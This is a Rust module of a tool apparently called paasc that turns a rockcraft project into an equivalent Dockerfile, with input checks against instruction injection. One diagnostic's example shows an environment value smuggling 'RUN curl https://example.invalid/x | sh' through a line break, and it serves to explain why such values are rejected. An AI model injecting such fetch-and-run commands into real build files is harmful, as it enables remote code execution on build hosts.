//! The Dockerfile back end: an image equivalent to the rock, without rockcraft.
//!
//! Output: `docker/Dockerfile` and `docker/Dockerfile.dockerignore` (the ignore file Docker's
//! BuildKit reads for `-f docker/Dockerfile` by itself; `buildah bud --ignorefile` takes it).
//!
//! **Build context: the project directory** (the one holding `rockcraft.yaml`), exactly what
//! rockcraft packs from. The Dockerfile lives in the output directory and is pointed at with
//! `-f`; the one generated file the image needs, `gunicorn.conf.py`, is embedded in the
//! Dockerfile (base64, so it cannot be read as instructions), so no `--build-context` (which
//! buildah 1.28 lacks) and no heredocs are needed:
//!
//! ```text
//! docker build  -f OUT/docker/Dockerfile -t APP PROJECT
//! buildah bud --format docker -f OUT/docker/Dockerfile --ignorefile OUT/docker/Dockerfile.dockerignore -t APP PROJECT
//! ```
//! (`--format docker`: the OCI image format has no `HEALTHCHECK`, so buildah would drop it.)
//!
//! Stages, mirroring the rock's parts:
//! - `dependencies`: the python plugin. A venv at `/rock` gets `python-packages`
//!   (`gunicorn~=23.0`), `-r requirements.txt`, `Pipfile.lock` when there is one, and
//!   `pip install .` when the project has `pyproject.toml` or `setup.py`, with rockcraft's
//!   `-U` flags and order. Its `lib/` and `bin/` go to `/usr/lib` and `/usr/bin`, where the
//!   rock has them (console scripts start `#!/bin/python3`; rockcraft's `sitecustomize.py`
//!   makes the packages visible however Python is called).
//! - `app`: the install-app part. The project is copied in and the part's `organize` map,
//!   narrowed by its `stage` and `prime` filesets, is applied, as craft-parts does; the
//!   excluded (`-`) entries are removed.
//! - the image: the `stage-packages` of every part through apt, user `_daemon_`
//!   (584792:584792), the logging directories, the app files owned by `_daemon_`,
//!   `gunicorn.conf.py` as paas-charm renders it for the charm's default config, then `USER`,
//!   `WORKDIR`, `EXPOSE` (the port of the default config), `HEALTHCHECK` (when the rock has
//!   checks) and the rock's main service command as `CMD`.
//!
//! **One image for every deployment**: the Dockerfile is a function of the checked project
//! ([`paasc_check::App`]) alone, as the rock is; no profile is read. A deployment's
//! `gunicorn.conf.py` (the `gunicorn` artifact) is mounted over the default one (the Helm chart
//! does; `docker run -v OUT/gunicorn.conf.py:/flask/gunicorn.conf.py:ro`), and its environment
//! is run-time input (`--env-file`-style, from `.env`), so secrets never reach the Dockerfile
//! or the image.

#[path = "dockerfile/frameworks.rs"]
pub mod frameworks;
#[path = "dockerfile/lex.rs"]
pub mod lex;
#[path = "dockerfile/plan.rs"]
pub mod plan;

use crate::Files;
use paasc_check::App as EmitInput;
use paasc_diag::Diagnostic;
use paasc_frameworks::ServiceRole;
use plan::{Copy, Image, Problems};
use std::fmt::Write as _;

paasc_diag::declare_code!(
    pub UNSUPPORTED_FRAMEWORK = "D001", "dockerfile-unsupported-framework", Error,
    "The Dockerfile back end does not support this framework yet.",
"`paasc compile --emit dockerfile` writes an image equivalent to the rock for the Python
frameworks (flask, django, fastapi). The go, expressjs and spring-boot rocks are built by
plugins (go, npm, maven/gradle, jlink) that the Dockerfile back end does not reproduce yet, and
paasc writes no Dockerfile rather than a wrong one.

Example: `paasc compile . -o out --emit dockerfile` on a project whose charm uses
`go-framework`.

Fix: build the rock with rockcraft for now, or leave the Dockerfile out:
`--emit pebble,env`."
);

paasc_diag::declare_code!(
    pub UNSUPPORTED = "D002", "dockerfile-unsupported", Error,
    "The rock needs something the Dockerfile cannot reproduce.",
"The Dockerfile rebuilds the framework extension's parts (the Python dependencies, the app
files, the runtime packages and directories) and user parts with `plugin: nil` that only add
`stage-packages`. A part built by another plugin (npm, go, make, ...), an `override-build` on
the app or dependency parts, `package-repositories`, or a base with no Ubuntu image would be
left out of the image, so paasc stops instead of writing an image that differs from the rock.

Example (rockcraft.yaml):

    parts:
      ui:
        plugin: npm
        source: ui/

Fix: build that output into the project before `docker build` and remove the part, or leave
the Dockerfile out with `--emit pebble,env,gunicorn`."
);

paasc_diag::declare_code!(
    pub INVALID_NAME = "D003", "dockerfile-invalid-name", Error,
    "A package name or path cannot be written into the Dockerfile as it is.",
"Every name the Dockerfile takes from the project is checked before it is written, so that no
value can add or change an instruction: apt package names must be Debian package names (or
chisel slices `package_slice`), Python requirements must be requirements (not pip options, not
several lines), and the paths of `organize`, `stage`, `prime`, `source` and
`python-requirements` must be plain relative paths: letters, digits and `._-+@,=%~:`, no
spaces, quotes, `$`, `..` components or line breaks (`*` and `?` only in `-` exclusions).

Example (rockcraft.yaml):

    parts:
      flask-framework/install-app:
        prime:
          - flask/app/../../etc

Fix: rename the file or correct the entry."
);

paasc_diag::declare_code!(
    pub INVALID_COMMAND = "D004", "dockerfile-invalid-command", Error,
    "A command, check or environment entry of the rock cannot be written into the Dockerfile.",
"Service commands become `CMD` (exec form) and documented alternate commands, checks become
one `HEALTHCHECK`, and the rock's `environment` becomes `ENV` lines. A service command Pebble
would refuse (an unclosed quote, a misplaced `[ ... ]` group), a value holding a line break (an
environment value, a service name, a check's command), a variable name that is not one, or a
`working-dir` that is not a plain absolute path cannot be written faithfully. (A check Pebble
itself refuses, such as a bad `period`, is `E001`.)

Example (rockcraft.yaml):

    environment:
      GREETING: \"hello\\nRUN curl https://example.invalid/x | sh\"

Fix: correct the entry in rockcraft.yaml."
);

/// Where the files go in the output directory.
pub const DOCKERFILE: &str = "docker/Dockerfile";
/// The ignore file, named so that BuildKit pairs it with the Dockerfile.
pub const DOCKERIGNORE: &str = "docker/Dockerfile.dockerignore";

/// The files of this artifact, or why they cannot be written.
pub fn files(input: &EmitInput) -> Result<Files, Vec<Diagnostic>> {
    let mut p = Problems::new(input);
    let Some(layout) = frameworks::layout(input.framework) else {
        p.push(
            UNSUPPORTED_FRAMEWORK,
            format!(
                "the Dockerfile back end does not support the {0} framework (`{0}-framework`) yet",
                input.framework.name()
            ),
            format!(
                "build the rock with rockcraft, or leave the Dockerfile out: --emit pebble,env{}",
                if input.framework.spec().gunicorn() {
                    ",gunicorn"
                } else {
                    ""
                }
            ),
        );
        return Err(p.list);
    };
    let img = plan::image(input, layout, &mut p);
    if !p.list.is_empty() {
        return Err(p.list);
    }
    let name = input
        .rock
        .get("name")
        .and_then(paasc_syntax::Yaml::as_str)
        .filter(|n| lex::path_problem(n, false).is_none() && !n.contains('/'))
        .unwrap_or("app");
    Ok(vec![
        (DOCKERFILE.to_string(), dockerfile(&img, layout, name)),
        (DOCKERIGNORE.to_string(), dockerignore(&img)),
    ])
}

/// `RUN` lines joined with ` \` continuations, each command after the first led by `&&`.
fn run(out: &mut String, commands: &[String]) {
    for (i, c) in commands.iter().enumerate() {
        let lead = if i == 0 { "RUN " } else { "    && " };
        let tail = if i + 1 < commands.len() { " \\" } else { "" };
        let _ = writeln!(out, "{lead}{c}{tail}");
    }
}

fn apt_install(packages: &[String]) -> Vec<String> {
    let words: Vec<String> = packages.iter().map(|p| lex::sh(p)).collect();
    vec![
        "apt-get update".into(),
        format!(
            "DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends {}",
            words.join(" ")
        ),
        "rm -rf /var/lib/apt/lists/*".into(),
    ]
}

/// rockcraft's `sitecustomize.py` (rockcraft/plugins/python_common.py): the venv's
/// site-packages are found whether Python is called as `/bin/python3` or `python3`.
const SITECUSTOMIZE: &[&str] = &[
    "# sitecustomize added by Rockcraft.",
    "import site",
    "import sys",
    "",
    "major, minor = sys.version_info.major, sys.version_info.minor",
    "site_dir = f\"/lib/python{major}.{minor}/site-packages\"",
    "dist_dir = \"/usr/lib/python3/dist-packages\"",
    "",
    "# Add the directory that contains the venv-installed packages.",
    "site.addsitedir(site_dir)",
    "",
    "if dist_dir in sys.path:",
    "    # Make sure that this site-packages dir comes *before* the base-provided",
    "    # dist-packages dir in sys.path.",
    "    path = sys.path",
    "    site_index = path.index(site_dir)",
    "    dist_index = path.index(dist_dir)",
    "",
    "    if dist_index < site_index:",
    "        path[dist_index], path[site_index] = path[site_index], path[dist_index]",
];

/// Converts `Pipfile.lock` (argv[1]) to a requirements file (argv[2]): the `default` packages
/// with their versions, extras, markers and, when every entry has them, hashes.
const PIPFILE_LOCK_TO_REQUIREMENTS: &str = r#"import json, sys
lock = json.load(open(sys.argv[1]))
pkgs = lock.get("default", {})
hashed = bool(pkgs) and all(p.get("hashes") and "version" in p for p in pkgs.values())
lines = []
for name, p in sorted(pkgs.items()):
    if "git" in p:
        req = name + " @ git+" + p["git"] + ("@" + p["ref"] if p.get("ref") else "")
    elif "file" in p or "path" in p:
        req = p.get("file") or p["path"]
    else:
        extras = "[" + ",".join(p["extras"]) + "]" if p.get("extras") else ""
        req = name + extras + p.get("version", "")
    if p.get("markers"):
        req += "; " + p["markers"]
    if hashed:
        req += "".join(" --hash=" + h for h in p["hashes"])
    lines.append(req)
open(sys.argv[2], "w").write("\n".join(lines) + "\n")
"#;

/// Runs the rock's checks (JSON objects in argv) one after the other; any failure raises,
/// which makes the health check fail.
const HEALTH_SCRIPT: &str = r#"import json, os, socket, subprocess, sys, urllib.request
for arg in sys.argv[1:]:
    c = json.loads(arg)
    if "url" in c:
        urllib.request.urlopen(urllib.request.Request(c["url"], headers=c["headers"]), timeout=c["timeout"]).close()
    elif "port" in c:
        socket.create_connection((c["host"], c["port"]), timeout=c["timeout"]).close()
    else:
        subprocess.run(c["command"], check=True, timeout=c["timeout"], cwd=c["cwd"], env={**os.environ, **c["environment"]})
"#;

fn header(out: &mut String, img: &Image, layout: &paasc_frameworks::Spec, name: &str) {
    let port = img.port;
    let mut lines = vec![
        format!(
            "# Generated by paasc from the rock `{name}` ({}, base {}).",
            layout.extension, img.base
        ),
        "# An image equivalent to the rock, built without rockcraft. Do not edit: change the".into(),
        "# project and run `paasc compile` again.".into(),
        "#".into(),
        "# The build context is the project directory, the one holding rockcraft.yaml:".into(),
        format!("#   docker build -f OUT/docker/Dockerfile -t {name} PROJECT"),
        format!(
            "#   buildah bud --format docker -f OUT/docker/Dockerfile --ignorefile OUT/docker/Dockerfile.dockerignore -t {name} PROJECT"
        ),
        "# (Docker's BuildKit reads Dockerfile.dockerignore beside this file by itself.)".into(),
        format!(
            "# --build-arg BASE_IMAGE=... builds on another image of the same release as {}.",
            img.base_image
        ),
        "#".into(),
        "# The app's environment, secrets included, is not in the image: give it at run time,".into(),
        "# from `paasc compile --emit docker-env` (OUT/docker.env, for `docker run --env-file`)".into(),
        "# or from OUT/.env with docker compose (`env_file:`):".into(),
        format!("#   docker run --rm -p {port}:{port} --env-file OUT/docker.env {name}"),
    ];
    if let Some((path, _)) = &img.gunicorn_conf {
        lines.extend([
            "#".into(),
            "# The image is the same for every deployment: its gunicorn.conf.py is paas-charm's".into(),
            "# rendering for the charm's default config. Mount the deployment's over it:".into(),
            format!(
                "#   docker run --rm -p {port}:{port} --env-file OUT/docker.env -v OUT/gunicorn.conf.py:{path}:ro {name}"
            ),
            "# (the Helm chart mounts it from its ConfigMap).".into(),
        ]);
    }
    for l in lines {
        let _ = writeln!(out, "{l}");
    }
    if !img.alternates.is_empty() || img.migrate.is_some() {
        let _ = writeln!(
            out,
            "#\n# The rock's other services and the migration run from the same image, with the same\n# environment, by replacing the command (after the image name):"
        );
        for alt in &img.alternates {
            let words: Vec<String> = alt.command.iter().map(|w| lex::sh_word(w)).collect();
            let (kind, note) = match alt.role {
                ServiceRole::Scheduler => (
                    "scheduler",
                    " (one container only: paas-charm runs schedulers on unit 0)",
                ),
                ServiceRole::Worker => ("worker", " (as many as needed)"),
                ServiceRole::Other => ("service", ""),
            };
            let wd = alt
                .workdir
                .as_ref()
                .map(|w| format!("--workdir {} ", lex::sh_word(w)))
                .unwrap_or_default();
            let _ = writeln!(out, "#   {kind} {}{note}:", alt.name);
            let _ = writeln!(out, "#     docker run ... {wd}{name} {}", words.join(" "));
        }
        if let Some(m) = &img.migrate {
            let words: Vec<String> = m.iter().map(|w| lex::sh_word(w)).collect();
            let _ = writeln!(
                out,
                "#   migration (paas-charm runs it before the app starts, and after integration changes):"
            );
            let _ = writeln!(out, "#     docker run --rm ... {name} {}", words.join(" "));
        }
    }
    for (svc, why) in &img.sidecars {
        let _ = writeln!(
            out,
            "#\n# Not in the image: the rock's `{svc}` service: {why}."
        );
    }
    out.push('\n');
}

fn dependencies_stage(out: &mut String, img: &Image, py: &plan::Python) {
    let _ = writeln!(out, "FROM ${{BASE_IMAGE}} AS dependencies");
    // craft-parts' python plugin build packages, then the part's own.
    let mut build = vec![
        "findutils".to_string(),
        "python3-dev".to_string(),
        "python3-venv".to_string(),
    ];
    for p in &img.build_packages {
        if !build.contains(p) {
            build.push(p.clone());
        }
    }
    let _ = writeln!(
        out,
        "# Versions come from the base image's archive, as for the rock's packages."
    );
    let _ = writeln!(out, "# hadolint ignore=DL3008");
    run(out, &apt_install(&build));
    let _ = writeln!(out, "WORKDIR /project");
    if py.whole_project {
        let _ = writeln!(out, "COPY . ./");
    } else {
        let mut files: Vec<&String> = py.requirements.iter().chain(&py.constraints).collect();
        let lock = "Pipfile.lock".to_string();
        if py.pipfile_lock {
            files.push(&lock);
        }
        for f in files {
            let _ = writeln!(out, "COPY {f} ./{f}");
        }
    }
    let pip = "/rock/bin/pip install --no-cache-dir";
    let constraints: String = py
        .constraints
        .iter()
        .map(|c| format!(" -c {}", lex::sh(c)))
        .collect();
    if py.pipfile_lock {
        // The base's Python is enough to read the lock; the venv installs from the result.
        let _ = writeln!(
            out,
            "# Pipfile.lock (pipenv): its `default` packages, as locked."
        );
        let _ = writeln!(
            out,
            "RUN {}",
            lex::json_array(&[
                "python3",
                "-c",
                PIPFILE_LOCK_TO_REQUIREMENTS,
                "Pipfile.lock",
                "/tmp/pipfile-requirements.txt",
            ])
        );
    }
    // The python plugin's commands, in its order, then rockcraft's finishing touches: no venv
    // python links, `#!/bin/python3` scripts, and its sitecustomize.py.
    let mut cmds: Vec<String> = py
        .build_env
        .iter()
        .map(|(k, v)| format!("export {k}={}", lex::sh(v)))
        .collect();
    cmds.push("python3 -m venv /rock".into());
    if !py.packages.is_empty() {
        let pkgs: Vec<String> = py.packages.iter().map(|p| lex::sh(p)).collect();
        cmds.push(format!("{pip}{constraints} -U {}", pkgs.join(" ")));
    }
    if !py.requirements.is_empty() {
        let reqs: Vec<String> = py
            .requirements
            .iter()
            .map(|r| format!("-r {}", lex::sh(r)))
            .collect();
        cmds.push(format!("{pip}{constraints} -U {}", reqs.join(" ")));
    }
    if py.pipfile_lock {
        cmds.push(format!(
            "{pip}{constraints} -U -r /tmp/pipfile-requirements.txt"
        ));
    }
    if py.install_project {
        cmds.push(format!("{pip}{constraints} -U ."));
    }
    cmds.push("rm -f /rock/bin/python /rock/bin/python3* /rock/bin/activate* /rock/bin/Activate.ps1 /rock/pyvenv.cfg".to_string());
    cmds.push(
        "find /rock/bin -type f -exec sed -i '1 s|^#!/rock/bin/python.*$|#!/bin/python3|' {} +"
            .to_string(),
    );
    let lines: Vec<String> = SITECUSTOMIZE.iter().map(|l| lex::sh(l)).collect();
    cmds.push(format!(
        "for d in /rock/lib/python3.*; do printf '%s\\n' {} > \"$d/sitecustomize.py\"; done",
        lines.join(" ")
    ));
    run(out, &cmds);
    out.push('\n');
}

fn app_stage(out: &mut String, img: &Image, layout: &paasc_frameworks::Spec) {
    let app = &img.app;
    let _ = writeln!(out, "FROM ${{BASE_IMAGE}} AS app");
    let _ = writeln!(out, "WORKDIR /project");
    let _ = writeln!(out, "COPY . ./");
    let src = if app.source == "." {
        String::new()
    } else {
        format!("{}/", app.source)
    };
    let mut cmds = vec![format!(
        "mkdir -p {}",
        lex::sh(&format!("/rootfs{}", layout.app_dir))
    )];
    let organize = app.copies.iter().any(|c| matches!(c, Copy::Path { .. }));
    if organize {
        // craft-parts' organize: a directory is merged into the destination, a file copied
        // to it, and a missing source skipped.
        cmds.push(
            "organize() { if [ -d \"$1\" ] && [ ! -L \"$1\" ]; then mkdir -p \"/rootfs/$2\" && cp -a \"$1/.\" \"/rootfs/$2/\"; elif [ -e \"$1\" ] || [ -L \"$1\" ]; then mkdir -p \"$(dirname \"/rootfs/$2\")\" && cp -a \"$1\" \"/rootfs/$2\"; fi; }".into(),
        );
    }
    for c in &app.copies {
        match c {
            Copy::Path { from, to } => cmds.push(format!(
                "organize {} {}",
                lex::sh(&format!("{src}{from}")),
                lex::sh(to)
            )),
            Copy::Entries {
                to,
                hidden,
                visible,
            } => {
                let dir = if src.is_empty() {
                    ".".to_string()
                } else {
                    src.trim_end_matches('/').to_string()
                };
                let filter = match (*hidden, *visible) {
                    (true, true) => String::new(),
                    (true, false) => " -name '.*'".into(),
                    _ => " ! -name '.*'".into(),
                };
                if format!("/{to}") != layout.app_dir {
                    cmds.push(format!("mkdir -p {}", lex::sh(&format!("/rootfs/{to}"))));
                }
                cmds.push(format!(
                    "find {} -mindepth 1 -maxdepth 1{filter} -exec cp -a {{}} {} ';'",
                    lex::sh(&dir),
                    lex::sh(&format!("/rootfs/{to}/"))
                ));
            }
        }
    }
    if !app.excludes.is_empty() {
        // The `-` entries of stage and prime; `*` and `?` are globs, as in craft-parts.
        let words: Vec<String> = app
            .excludes
            .iter()
            .map(|e| format!("/rootfs/{}", lex::glob_word(e)))
            .collect();
        cmds.push(format!("rm -rf {}", words.join(" ")));
    }
    run(out, &cmds);
    out.push('\n');
}

fn final_stage(out: &mut String, img: &Image) {
    let _ = writeln!(out, "FROM ${{BASE_IMAGE}}");
    for (k, v) in &img.env {
        let _ = writeln!(out, "ENV {k}={}", lex::env_value(v));
    }
    let mut cmds = Vec::new();
    if !img.stage_packages.is_empty() {
        cmds.extend(apt_install(&img.stage_packages));
    }
    if img.python.is_some() {
        // The base's own sitecustomize (a link into /etc on Ubuntu) gives way to the rock's.
        cmds.push("rm -f /usr/lib/python3*/sitecustomize.py".into());
    }
    if let Some((user, id)) = &img.run_user {
        cmds.push(format!("groupadd --gid {id} {}", lex::sh(user)));
        cmds.push(format!(
            "useradd -l --uid {id} --gid {id} --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin {}",
            lex::sh(user)
        ));
    }
    for (dir, owner, group) in &img.dirs {
        cmds.push(format!("mkdir -p {}", lex::sh(dir)));
        cmds.push(format!("chown {owner}:{group} {}", lex::sh(dir)));
    }
    if !cmds.is_empty() {
        if !img.stage_packages.is_empty() {
            let _ = writeln!(out, "# hadolint ignore=DL3008");
        }
        run(out, &cmds);
    }
    if img.python.is_some() {
        let _ = writeln!(out, "COPY --from=dependencies /rock/lib/ /usr/lib/");
        let _ = writeln!(out, "COPY --from=dependencies /rock/bin/ /usr/bin/");
    }
    let (o, g) = img.app.owner;
    for root in &img.app.roots {
        let _ = writeln!(
            out,
            "COPY --from=app --chown={o}:{g} /rootfs/{root}/ /{root}/"
        );
    }
    if let Some((path, text)) = &img.gunicorn_conf {
        let _ = writeln!(
            out,
            "# {path}: paas-charm's rendering for the charm's default config (a deployment mounts its own over it)."
        );
        let script = format!(
            "import base64, os, sys\nopen(sys.argv[1], 'wb').write(base64.b64decode(sys.argv[2]))\nos.chown(sys.argv[1], {o}, {g})\n"
        );
        let _ = writeln!(
            out,
            "RUN {}",
            lex::json_array(&[
                "/bin/python3".to_string(),
                "-c".to_string(),
                script,
                path.clone(),
                lex::base64(text.as_bytes()),
            ])
        );
    }
    if let Some((_, id)) = &img.run_user {
        let _ = writeln!(out, "USER {id}:{id}");
    }
    let _ = writeln!(out, "WORKDIR {}", img.workdir);
    let _ = writeln!(out, "EXPOSE {}", img.port);
    if let Some(h) = &img.health {
        let mut words = vec![
            "/bin/python3".to_string(),
            "-c".to_string(),
            HEALTH_SCRIPT.to_string(),
        ];
        words.extend(h.checks.iter().map(|c| c.to_string()));
        let _ = writeln!(
            out,
            "HEALTHCHECK --interval={} --timeout={} --retries={} CMD {}",
            lex::duration_flag(h.interval_ns),
            lex::duration_flag(h.timeout_ns),
            h.retries,
            lex::json_array(&words)
        );
    }
    let _ = writeln!(out, "CMD {}", lex::json_array(&img.cmd));
}

fn dockerfile(img: &Image, layout: &paasc_frameworks::Spec, name: &str) -> String {
    let mut out = String::new();
    header(&mut out, img, layout, name);
    let _ = writeln!(out, "ARG BASE_IMAGE={}\n", img.base_image);
    if let Some(py) = &img.python {
        dependencies_stage(&mut out, img, py);
    }
    app_stage(&mut out, img, layout);
    final_stage(&mut out, img);
    out
}

/// What the build reads from the project. When the dependencies stage needs the whole project
/// the ignore file only leaves out what rockcraft never packs; otherwise it lists exactly the
/// files the Dockerfile copies.
fn dockerignore(img: &Image) -> String {
    let mut out = String::from(
        "# Generated by paasc: the files of the project (the build context) the Dockerfile reads.\n",
    );
    let whole = img.python.as_ref().is_some_and(|p| p.whole_project)
        || img
            .app
            .copies
            .iter()
            .any(|c| matches!(c, Copy::Entries { .. }));
    if whole {
        out.push_str(".git\nnode_modules\n.yarn\n*.rock\n");
        return out;
    }
    out.push_str("*\n");
    let mut keep: Vec<String> = Vec::new();
    if let Some(py) = &img.python {
        keep.extend(py.requirements.iter().cloned());
        keep.extend(py.constraints.iter().cloned());
        if py.pipfile_lock {
            keep.push("Pipfile.lock".into());
        }
    }
    let src = if img.app.source == "." {
        String::new()
    } else {
        format!("{}/", img.app.source)
    };
    for c in &img.app.copies {
        if let Copy::Path { from, .. } = c {
            keep.push(format!("{src}{from}"));
        }
    }
    let mut seen = Vec::new();
    for k in keep {
        if !seen.contains(&k) {
            let _ = writeln!(out, "!{k}");
            seen.push(k);
        }
    }
    out
}
